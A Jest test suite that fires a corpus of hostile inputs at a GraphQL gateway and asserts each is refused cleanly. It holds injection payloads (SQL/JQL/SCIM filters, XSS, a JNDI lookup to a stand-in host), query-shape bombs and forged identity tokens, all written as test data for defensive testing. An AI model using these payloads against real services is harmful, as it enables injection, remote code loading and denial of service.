import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { startStack, type Stack } from '../../bin/stack';
import { demoPrivateKey, mintDemoToken } from '../../gateway/auth/demo-issuer';
import { IDENTITY_HEADER, signCaller } from '../../subgraphs/common/identity';
import { SIMULATOR_CREDENTIALS } from '../../simulators/credentials';

/**
 * The hostile-input corpus: every case is something a careless or malicious client sends. Each must get a clear
 * error with a code (or a correct, narrow answer), never a 5xx, never a stack trace, file path, internal URL or
 * credential, and never an upstream query wider than asked: an injection string matches nothing.
 * The stack runs with AUTH_MODE=required, so the corpus goes through authentication, limits and authorisation.
 */
jest.setTimeout(120_000);

const dir = mkdtempSync(path.join(tmpdir(), 'pmo-corpus-'));
const keyFile = path.join(dir, 'demo.pem');
const SECRET = 's'.repeat(40);
let stack: Stack;
let auth: Record<string, string>;

beforeAll(async () => {
  stack = await startStack({ ports: 'random', env: { AUTH_MODE: 'required', DEMO_ISSUER_KEY_FILE: keyFile, GATEWAY_IDENTITY_SECRET: SECRET, RATE_LIMIT_PER_MINUTE: '0', AUDIT_LOG_FILE: path.join(dir, 'audit.jsonl') } });
  auth = { authorization: `Bearer ${mintDemoToken(demoPrivateKey(keyFile), { email: 'corpus@northfield.edu', scopes: [] })}` };
});
afterAll(() => stack?.close());

interface Answer {
  status: number;
  text: string;
  body: { data?: Record<string, any> | null; errors?: Array<{ message: string; path?: unknown[]; extensions?: Record<string, unknown> }> };
}

const CREDENTIALS = Object.values(SIMULATOR_CREDENTIALS).flatMap((c) => Object.values(c)).filter((v) => v.length > 8);

async function send(body: string, headers: Record<string, string> = auth, target?: string): Promise<Answer> {
  const response = await fetch(target ?? stack.gateway.url, { method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/graphql-response+json', ...headers }, body });
  const text = await response.text();
  let parsed: Answer['body'] = {};
  try {
    parsed = JSON.parse(text) as Answer['body'];
  } catch {
    // asserted below: every answer is JSON
  }
  return { status: response.status, text, body: parsed };
}
const ask = (query: string, variables?: Record<string, unknown>, headers?: Record<string, string>) => send(JSON.stringify({ query, variables }), headers);

/** What every answer in the corpus must be, whatever else the case checks. */
function expectClean(answer: Answer): void {
  expect(answer.status).toBeLessThan(500);
  expect(() => JSON.parse(answer.text)).not.toThrow();
  for (const error of answer.body.errors ?? []) expect(typeof error.extensions?.code).toBe('string');
  expect(answer.text).not.toMatch(/\/work\/|node_modules|\.ts:\d+|\.js:\d+|\bat [\w.<>]+ \(|127\.0\.0\.1:\d+|localhost:\d+|"stack"|stacktrace/i);
  for (const secret of [...CREDENTIALS, SECRET]) expect(answer.text).not.toContain(secret);
}
const codes = (answer: Answer) => (answer.body.errors ?? []).map((e) => e.extensions?.code);

// ---------------------------------------------------------------------------------------------------------------
// Injection strings in every string argument: none may widen the upstream query (JQL, encoded query, SCIM filter).
const PAYLOADS = [
  `' OR '1'='1`,
  `" OR 1=1 --`,
  `x" OR project is not EMPTY OR summary ~ "`,
  `") OR key is not EMPTY ORDER BY key --`,
  `^ORactive=true`,
  `^NQactive=true^ORDERBYnumber`,
  `zz) or (userName pr`,
  `" or userName pr or displayName eq "`,
  `\\" OR \\"1\\"=\\"1`,
  '${jndi:ldap://evil.example/a}',
  `<script>alert(1)</script>`,
  `%00%27%20OR%201=1`,
];
const LISTS: Array<[string, (value: string) => string]> = [
  ['projects(filter.search)', (v) => `{ r: projects(first: 50, filter: { search: ${JSON.stringify(v)} }) { totalCount edges { node { key } } } }`],
  ['projects(filter.leadEmail)', (v) => `{ r: projects(first: 50, filter: { leadEmail: ${JSON.stringify(v)} }) { totalCount edges { node { key } } } }`],
  ['issues(filter.search)', (v) => `{ r: issues(first: 50, filter: { search: ${JSON.stringify(v)} }) { totalCount edges { node { key } } } }`],
  ['issues(filter.assigneeEmail)', (v) => `{ r: issues(first: 50, filter: { assigneeEmail: ${JSON.stringify(v)} }) { totalCount edges { node { key } } } }`],
  ['issues(projectKey)', (v) => `{ r: issues(first: 50, projectKey: ${JSON.stringify(v)}) { totalCount edges { node { key } } } }`],
  ['issues(filter.labels)', (v) => `{ r: issues(first: 50, filter: { labels: [${JSON.stringify(v)}] }) { totalCount edges { node { key } } } }`],
  ['issues(filter.type)', (v) => `{ r: issues(first: 50, filter: { type: [${JSON.stringify(v)}] }) { totalCount edges { node { key } } } }`],
  ['people(search)', (v) => `{ r: people(first: 50, search: ${JSON.stringify(v)}) { totalCount edges { node { email } } } }`],
  ['people(department)', (v) => `{ r: people(first: 50, department: ${JSON.stringify(v)}) { totalCount edges { node { email } } } }`],
  ['incidents(filter.assignmentGroup)', (v) => `{ r: incidents(first: 50, filter: { assignmentGroup: ${JSON.stringify(v)} }) { totalCount edges { node { number } } } }`],
  ['incidents(filter.projectKey)', (v) => `{ r: incidents(first: 50, filter: { projectKey: ${JSON.stringify(v)} }) { totalCount edges { node { number } } } }`],
  ['changes(filter.projectKey)', (v) => `{ r: changes(first: 50, filter: { projectKey: ${JSON.stringify(v)} }) { totalCount edges { node { number } } } }`],
  ['problems(filter.assignmentGroup)', (v) => `{ r: problems(first: 50, filter: { assignmentGroup: ${JSON.stringify(v)} }) { totalCount edges { node { number } } } }`],
];
const LOOKUPS: Array<[string, (value: string) => string]> = [
  ['project(key)', (v) => `{ r: project(key: ${JSON.stringify(v)}) { key } }`],
  ['issue(key)', (v) => `{ r: issue(key: ${JSON.stringify(v)}) { key } }`],
  ['person(email)', (v) => `{ r: person(email: ${JSON.stringify(v)}) { email } }`],
  ['ticket(number)', (v) => `{ r: ticket(number: ${JSON.stringify(v)}) { number } }`],
  ['department(name)', (v) => `{ r: department(name: ${JSON.stringify(v)}) { name } }`],
];

describe('injection strings match nothing', () => {
  const cases = LISTS.flatMap(([arg, query]) => PAYLOADS.map((payload) => [arg, payload, query] as const));
  it.each(cases)('%s = %s', async (_arg, payload, query) => {
    const answer = await ask(query(payload));
    expectClean(answer);
    // Jira itself refuses an issue type it does not know (the value arrived quoted, as a value): UPSTREAM_BAD_REQUEST.
    if (answer.body.errors?.length) expect(codes(answer)).toEqual([_arg === 'issues(filter.type)' ? 'UPSTREAM_BAD_REQUEST' : 'BAD_USER_INPUT']);
    else {
      expect(answer.body.data!.r.totalCount).toBe(0);
      expect(answer.body.data!.r.edges).toEqual([]);
    }
  });

  const lookups = LOOKUPS.flatMap(([arg, query]) => PAYLOADS.slice(0, 6).map((payload) => [arg, payload, query] as const));
  it.each(lookups)('%s = %s', async (_arg, payload, query) => {
    const answer = await ask(query(payload));
    expectClean(answer);
    if (answer.body.errors?.length) expect(codes(answer).every((c) => c === 'BAD_USER_INPUT' || c === 'NOT_FOUND')).toBe(true);
    else expect(answer.body.data!.r).toBeNull();
  });
});

// ---------------------------------------------------------------------------------------------------------------
describe('operation shape bombs', () => {
  const chain = (depth: number) => `{ people(first: 1) { edges { node { ${'manager { '.repeat(depth)}email${' }'.repeat(depth)} } } } }`;
  it.each([14, 16, 20, 30, 50, 100, 200, 400, 800, 1000])('depth %i', async (depth) => {
    const answer = await ask(chain(depth));
    expectClean(answer);
    if (depth + 4 > 15) expect(codes(answer)).toEqual([depth > 700 ? expect.stringMatching(/DEPTH_LIMIT_EXCEEDED|TOKEN_LIMIT_EXCEEDED/) : 'DEPTH_LIMIT_EXCEEDED']);
    else expect(answer.body.errors).toBeUndefined();
  });

  it.each([31, 50, 100, 500, 2000])('%i aliases of projects(first: 200) { totalCount }', async (n) => {
    const answer = await ask(`{ ${Array.from({ length: n }, (_, i) => `a${i}: projects(first: 200) { totalCount }`).join(' ')} }`);
    expectClean(answer);
    expect(codes(answer)).toEqual([n > 450 ? expect.stringMatching(/ALIAS_LIMIT_EXCEEDED|TOKEN_LIMIT_EXCEEDED/) : 'ALIAS_LIMIT_EXCEEDED']);
    expect(answer.body.data).toBeUndefined();
  });

  it.each([10, 40])('aliases hidden in a fragment spread %i times', async (n) => {
    const answer = await ask(`query { ...F } fragment F on Query { ${Array.from({ length: n }, (_, i) => `x${i}: projects(first: 1) { totalCount }`).join(' ')} }`);
    expectClean(answer);
    if (n > 30) expect(codes(answer)).toEqual(['ALIAS_LIMIT_EXCEEDED']);
    else expect(answer.body.errors).toBeUndefined();
  });

  it('a fragment cycle', async () => {
    const answer = await ask('query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }');
    expectClean(answer);
    expect(codes(answer)).toEqual(expect.arrayContaining(['GRAPHQL_VALIDATION_FAILED']));
  });

  it('a fragment fan-out ("billion laughs")', async () => {
    const levels = 12;
    const fragments = Array.from({ length: levels }, (_, i) => (i === 0 ? 'fragment F0 on Project { key name }' : `fragment F${i} on Project { ...F${i - 1} ...F${i - 1} }`));
    const answer = await ask(`{ projects(first: 2) { edges { node { ...F${levels - 1} } } } } ${fragments.join(' ')}`);
    expectClean(answer);
    if (!answer.body.errors) expect(answer.body.data!.projects.edges).toHaveLength(2);
  });

  it.each([51, 100, 500])('%i directives on one field', async (n) => {
    const answer = await ask(`{ projects(first: 1) { totalCount ${'@include(if: true) '.repeat(n)} } }`);
    expectClean(answer);
    expect(codes(answer)).toEqual([expect.stringMatching(/DIRECTIVE_LIMIT_EXCEEDED|TOKEN_LIMIT_EXCEEDED/)]);
  });

  it('a query of 6,000 tokens', async () => {
    const answer = await ask(`{ projects(first: 1) { ${'totalCount '.repeat(6000)} } }`);
    expectClean(answer);
    expect(codes(answer)).toEqual(['TOKEN_LIMIT_EXCEEDED']);
  });

  it('a list-size-aware cost bomb: 200 projects × 200 issues', async () => {
    const answer = await ask('{ projects(first: 200) { edges { node { issues(first: 200) { edges { node { key summary assignee { email } } } } } } } }');
    expectClean(answer);
    expect(codes(answer)).toEqual(['COST_LIMIT_EXCEEDED']);
  });
});

// ---------------------------------------------------------------------------------------------------------------
describe('bodies and variables', () => {
  it('a 2 MB body → 413 REQUEST_TOO_LARGE', async () => {
    const answer = await send(JSON.stringify({ query: '{ projects(first: 1) { totalCount } }', variables: { pad: 'x'.repeat(2 * 1024 * 1024) } }));
    expect(answer.status).toBe(413);
    expectClean({ ...answer, status: 400 });
    expect(codes(answer)).toEqual(['REQUEST_TOO_LARGE']);
  });
  it('a body that is not JSON', async () => {
    const answer = await send('{"query": "{ projects { totalCount } ');
    expectClean(answer);
    expect(answer.status).toBe(400);
  });
  it('variables of the wrong type', async () => {
    const answer = await ask('query Q($first: Int) { projects(first: $first) { totalCount } }', { first: 'all of them' });
    expectClean(answer);
    expect(answer.status).toBe(400);
  });
  it('a 10,000-item list variable', async () => {
    const answer = await ask('query Q($keys: [String!]) { issues(first: 1, filter: { labels: $keys }) { totalCount } }', { keys: Array.from({ length: 10_000 }, (_, i) => `label-${i}`) });
    expectClean(answer);
  });
  it('an unknown operationName is the client’s error', async () => {
    const answer = await send(JSON.stringify({ query: 'query A { projects(first: 1) { totalCount } }', operationName: 'B' }));
    expectClean(answer);
    expect(answer.status).toBe(400);
  });
});

// ---------------------------------------------------------------------------------------------------------------
describe('page-size abuse', () => {
  const FIELDS = ['projects', 'issues', 'people', 'incidents', 'changes', 'requests', 'problems'];
  const VALUES: Array<[string, string]> = [
    ['first: 0', 'first: 0'],
    ['first: -1', 'first: -1'],
    ['first: 201', 'first: 201'],
    ['first: 2147483647', 'first: 2147483647'],
    ['after: garbage', 'first: 5, after: "not-a-cursor"'],
    ['after: forged cursor', `first: 5, after: "${Buffer.from('offset:-100').toString('base64')}"`],
  ];
  const cases = FIELDS.flatMap((field) => VALUES.map(([name, args]) => [field, name, args] as const));
  it.each(cases)('%s(%s)', async (field, _name, args) => {
    const answer = await ask(`{ r: ${field}(${args}) { totalCount edges { cursor } } }`);
    expectClean(answer);
    if (answer.body.errors?.length) expect(codes(answer).every((c) => ['BAD_USER_INPUT', 'COST_LIMIT_EXCEEDED'].includes(String(c)))).toBe(true);
    else expect(answer.body.data!.r.edges.length).toBeLessThanOrEqual(200);
  });
});

// ---------------------------------------------------------------------------------------------------------------
describe('malformed dates get BAD_USER_INPUT naming the argument, the rest of the answer intact', () => {
  const DATES = ['yesterday', '2026-13-01', '2026-02-30', '0', '-1', '99999-01-01', '2026-11-01T25:00:00Z', '', '2026-11-01T00:00:00', '2026-11-01 OR 1=1'];
  const FIELDS: Array<[string, (v: string) => string]> = [
    ['issues(updatedSince)', (v) => `r: issues(first: 1, updatedSince: ${JSON.stringify(v)}) { totalCount }`],
    ['incidents(updatedBefore)', (v) => `r: incidents(first: 1, updatedBefore: ${JSON.stringify(v)}) { totalCount }`],
    ['incidents(filter.openedAfter)', (v) => `r: incidents(first: 1, filter: { openedAfter: ${JSON.stringify(v)} }) { totalCount }`],
    ['people(updatedSince)', (v) => `r: people(first: 1, updatedSince: ${JSON.stringify(v)}) { totalCount }`],
  ];
  const cases = FIELDS.flatMap(([name, field]) => DATES.map((date) => [name, date, field] as const));
  it.each(cases)('%s = %j', async (_name, date, field) => {
    const answer = await ask(`{ ok: projects(first: 1) { totalCount } ${field(date)} }`);
    expectClean(answer);
    expect(codes(answer)).toEqual(['BAD_USER_INPUT']);
    expect(answer.body.errors![0].message).toMatch(/updatedSince|updatedBefore|openedAfter/);
    expect(answer.body.data?.ok?.totalCount ?? answer.body.data).toBeTruthy();
  });
});

// ---------------------------------------------------------------------------------------------------------------
describe('identity and scope escalation', () => {
  const forged = (secret: string) => signCaller({ subject: 'eve', email: 'eve@northfield.edu', kind: 'user', scopes: ['people:sensitive', 'portfolio:admin'] }, secret);
  const SUBGRAPHS = ['projects', 'people', 'tickets'] as const;
  it.each(SUBGRAPHS.flatMap((name) => [[name, 'no header'], [name, 'forged header']] as const))('straight to the %s subgraph with %s → 401', async (name, kind) => {
    const answer = await send(JSON.stringify({ query: '{ __typename }' }), kind === 'no header' ? {} : { [IDENTITY_HEADER]: forged('not-the-secret-but-long-enough-000000') }, stack.subgraphs[name].url);
    expect(answer.status).toBe(401);
    expectClean({ ...answer, status: 400 });
    expect(codes(answer)).toEqual(['UNAUTHENTICATED']);
  });

  it('an identity header sent to the gateway is not passed on: phone stays FORBIDDEN', async () => {
    const answer = await ask('{ people(first: 1) { edges { node { phone } } } }', undefined, { ...auth, [IDENTITY_HEADER]: forged(SECRET) });
    expectClean(answer);
    expect(codes(answer)).toEqual(['FORBIDDEN']);
  });

  const key = () => demoPrivateKey(keyFile);
  const jwt = require('jsonwebtoken') as typeof import('jsonwebtoken');
  const sign = (claims: object) => jwt.sign(claims, key().export({ type: 'pkcs8', format: 'pem' }), { algorithm: 'ES256', keyid: require('../../gateway/auth/demo-issuer').demoJwks(key()).keys[0].kid, issuer: 'urn:pmo-graph:demo-issuer', audience: 'pmo-graph', expiresIn: '1h', subject: 'eve' });
  it.each([
    ['scopes in an unconfigured claim (roles)', { email: 'eve@northfield.edu', roles: ['people:sensitive'] }],
    ['scope as an object', { email: 'eve@northfield.edu', scope: { 'people:sensitive': true } }],
    ['scope list of non-strings', { email: 'eve@northfield.edu', scope: [1, null, { s: 'people:sensitive' }] }],
    ['a scope that only looks alike', { email: 'eve@northfield.edu', scope: 'people:sensitive* people:Sensitive' }],
  ])('%s grants nothing', async (_name, claims) => {
    const answer = await ask('{ people(first: 1) { edges { node { phone } } } }', undefined, { authorization: `Bearer ${sign(claims)}` });
    expectClean(answer);
    expect(codes(answer)).toEqual(['FORBIDDEN']);
  });

  it.each([
    ['a 100 kB bearer token', `Bearer ${'a'.repeat(100_000)}`],
    ['two tokens', `Bearer a.b.c d.e.f`],
    ['an empty bearer', 'Bearer '],
  ])('%s → 401 (431 when it is past the HTTP header limit)', async (_name, header) => {
    const answer = await ask('{ projects(first: 1) { totalCount } }', undefined, { authorization: header });
    expectClean(answer);
    expect(answer.status).toBe(header.length > 16_000 ? 431 : 401);
    expect(codes(answer)).toEqual([header.length > 16_000 ? 'REQUEST_HEADERS_TOO_LARGE' : 'UNAUTHENTICATED']);
  });

  it('a mutation without the scope is refused and files nothing; the gateway is still up after the corpus', async () => {
    const answer = await ask('mutation { updateProjectProfile(key: "PMO", input: { sponsorEmail: "eve@northfield.edu" }) { key } }');
    expectClean(answer);
    expect(codes(answer)).toEqual(['FORBIDDEN']);
    expect((await fetch(stack.gateway.url.replace('/graphql', '/health'))).status).toBe(200);
  });
});
